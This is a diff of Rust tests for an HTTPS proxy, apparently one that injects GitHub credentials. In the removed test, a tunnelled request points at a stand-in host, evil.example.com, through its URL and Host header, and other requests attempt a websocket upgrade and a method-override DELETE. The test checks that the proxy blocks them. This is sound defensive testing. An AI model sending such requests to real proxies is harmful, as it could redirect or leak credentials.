         stream,
-        "CONNECT api.github.com:443 HTTP/1.1\r\nHost: api.github.com:443\r\nProxy-Authorization: Basic {}\r\n\r\n",
-        STANDARD.encode(credential)
+        "CONNECT api.github.com:443 HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
+        STANDARD.encode(format!("porter:{}", command.key))
     )
     .unwrap();
     let mut status = String::new();
     BufReader::new(stream).read_line(&mut status).unwrap();
     assert!(status.starts_with("HTTP/1.1 407"), "{status}");
-}
-
-/// Opens a tunnel through Porter's proxy to `api.github.com` with a live call's proxy
-/// URL, and speaks HTTP/1 in it, trusting Porter's CA from `ca_file`.
-fn tunnel_client(
-    proxy_url: &str,
-    ca_file: &str,
-) -> (
-    tokio::runtime::Runtime,
-    hyper::client::conn::http1::SendRequest<http_body_util::Empty<bytes::Bytes>>,
-) {
-    use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject};
-    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
-    let (credential, address) = proxy_url
-        .strip_prefix("http://")
-        .unwrap()
-        .rsplit_once('@')
-        .unwrap();
-    let runtime = tokio::runtime::Builder::new_current_thread()
-        .enable_all()
-        .build()
-        .unwrap();
-    let mut roots = rustls::RootCertStore::empty();
-    for certificate in CertificateDer::pem_file_iter(ca_file).unwrap() {
-        roots.add(certificate.unwrap()).unwrap();
-    }
-    let config = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
-        rustls::crypto::aws_lc_rs::default_provider(),
-    ))
-    .with_safe_default_protocol_versions()
-    .unwrap()
-    .with_root_certificates(roots)
-    .with_no_client_auth();
-    let sender = runtime.block_on(async {
-        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
-        stream
-            .write_all(
-                format!(
-                    "CONNECT api.github.com:443 HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
-                    STANDARD.encode(credential)
-                )
-                .as_bytes(),
-            )
-            .await
-            .unwrap();
-        let mut reader = tokio::io::BufReader::new(stream);
-        let mut line = String::new();
-        reader.read_line(&mut line).await.unwrap();
-        assert!(line.starts_with("HTTP/1.1 200"), "{line}");
-        while line != "\r\n" {
-            line.clear();
-            reader.read_line(&mut line).await.unwrap();
-        }
-        let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(config))
-            .connect(
-                ServerName::try_from("api.github.com").unwrap(),
-                reader.into_inner(),
-            )
-            .await
-            .unwrap();
-        let (sender, connection) =
-            hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
-                .await
-                .unwrap();
-        tokio::spawn(connection);
-        sender
-    });
-    (runtime, sender)
-}
-
-#[test]
-fn requests_in_a_tunnel_go_only_to_its_host_and_never_switch_protocols() {
-    use http_body_util::{BodyExt, Empty};
-    let world = world();
-    // A call that stays alive while the test drives its tunnel by hand.
-    let mut call = world
-        .daemon
-        .proxy(
-            "sh",
-            &[
-                "-c",
-                "printenv HTTPS_PROXY SSL_CERT_FILE GH_TOKEN; sleep 20",
-            ],
-            TOKEN,
-        )
-        .stdout(std::process::Stdio::piped())
-        .spawn()
-        .unwrap();
-    let mut lines = BufReader::new(call.stdout.take().unwrap()).lines();
-    let mut next = || lines.next().unwrap().unwrap();
-    let (proxy_url, ca_file, placeholder) = (next(), next(), next());
-    let (runtime, mut sender) = tunnel_client(&proxy_url, &ca_file);
-    let mut send = |request: http::Request<Empty<bytes::Bytes>>| {
-        runtime.block_on(async {
-            sender.ready().await.unwrap();
-            let response = sender.send_request(request).await.unwrap();
-            let status = response.status();
-            response.into_body().collect().await.unwrap();
-            status
-        })
-    };
-    // Absolute form naming another authority, and a Host header naming a third.
-    let status = send(
-        http::Request::get("https://evil.example.com/repos/o/r/pulls")
-            .header("host", "evil.example.com")
-            .header("authorization", format!("token {placeholder}"))
-            .body(Empty::new())
-            .unwrap(),
-    );
-    assert_eq!(status, 200);
-    let upgrade = send(
-        http::Request::get("/repos/o/r/pulls")
-            .header("connection", "upgrade")
-            .header("upgrade", "websocket")
-            .body(Empty::new())
-            .unwrap(),
-    );
-    assert_eq!(upgrade, 403);
-    let overridden = send(
-        http::Request::get("/repos/o/r/pulls")
-            .header("x-http-method-override", "DELETE")
-            .body(Empty::new())
-            .unwrap(),
-    );
-    assert_eq!(overridden, 403);
-    let _ = call.kill();
-    let _ = call.wait();
-
-    let requests = world.standin.requests();
-    assert_eq!(requests.len(), 1, "{requests:?}");
-    assert_eq!(
-        (requests[0].host.as_str(), requests[0].path.as_str()),
-        ("api.github.com", "/repos/o/r/pulls")
-    );
-    assert_eq!(
-        requests[0].credential().as_deref(),
-        Some(world.secret.as_str())
-    );
+    assert!(world.standin.requests().is_empty());
 }
 
 #[test]
 fn an_upstream_whose_certificate_porter_cannot_verify_gets_no_request() {
     let world = world_trusting(false);
-    let output = world.run("gh", &["api", "repos/o/r/pulls"], TOKEN);
+    let command = world.daemon.register("ana", "owner");
+    let output = world.run(&command, "gh", &["api", "repos/o/r/pulls"]);
     assert!(!output.status.success(), "{}", text(&output));
-    assert!(
-        world.standin.requests().is_empty(),
-        "a request (and the token) reached an unverified upstream"
-    );
-    assert!(world.decisions().iter().any(|line| {
-        line["path"] == "/repos/o/r/pulls"
-            && line["decision"] == "upstream_error"
-            && line["reason"]
-                .as_str()
-                .unwrap()
-                .contains("failed to verify TLS")
+    assert!(world.standin.requests().is_empty(), "the token reached an unverified upstream");
+    assert!(world.daemon.decisions().iter().any(|line| {
+        line["decision"] == "upstream_error"
+            && line["reason"].as_str().unwrap().contains("failed to verify TLS")
     }));
 }
